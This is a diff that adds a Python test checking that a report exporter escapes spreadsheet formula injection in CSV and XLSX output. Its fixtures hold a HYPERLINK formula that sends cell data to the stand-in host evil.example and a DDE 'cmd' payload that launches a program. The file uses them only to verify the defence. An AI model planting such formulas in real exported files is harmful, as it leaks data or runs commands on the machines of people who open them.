@@ -248,6 +248,26 @@ def test_csv_is_utf8_with_bom_and_the_same_rows() -> None:
                                           ["กองคลัง", "ดำเนินการแล้วเสร็จ", "100", "บรรทัดแรก\nบรรทัด, สอง"]]
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+CALC = "=cmd|' /C calc'!A0"
+
+
+def test_texts_a_spreadsheet_would_run_as_formulas_stay_texts() -> None:
+    # OWASP's advice for CSV: a cell starting with = + - @ tab or CR gets a leading '; Excel cells are strings.
+    model = build([measure(1, issue_no=None, issue=CALC, steps=("+1+1",)), measure(2, units=(1, 2))],
+                  [report(1, 1, HYPERLINK, "-2+3"), report(2, 1, "@SUM(A1:A9)", "\t=1+1"),
+                   report(2, 2, "\r=1+1", "ไม่มี - ปกติ")])
+    rows = list(csv.reader(io.StringIO(render_progress_csv(model).decode("utf-8-sig"))))
+    assert [rows[1][2], rows[1][4], rows[1][8], rows[1][9]] == [f"'{CALC}", "'+1+1", f"'{HYPERLINK}", "'-2+3"]
+    assert [rows[2][8], rows[2][9]] == ["'@SUM(A1:A9)", "'\t=1+1"]
+    assert [rows[3][8], rows[3][9], rows[3][7]] == ["'\r=1+1", "ไม่มี - ปกติ", "100"]  # numbers stay numbers
+    book = openpyxl.load_workbook(io.BytesIO(render_progress_xlsx(model)))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert {cell.value for cell in risky} >= {CALC, HYPERLINK, "@SUM(A1:A9)", "-2+3"}
+    assert [(cell.coordinate, cell.data_type) for cell in risky if cell.data_type != "s"] == []
+
+
 # -- complaint statistics -------------------------------------------------------------------------------------------
 def complaint(month: int, day: int, category: Category, status: ComplaintStatus) -> ComplaintFacts:
     year = 2023 if month >= 10 else 2024
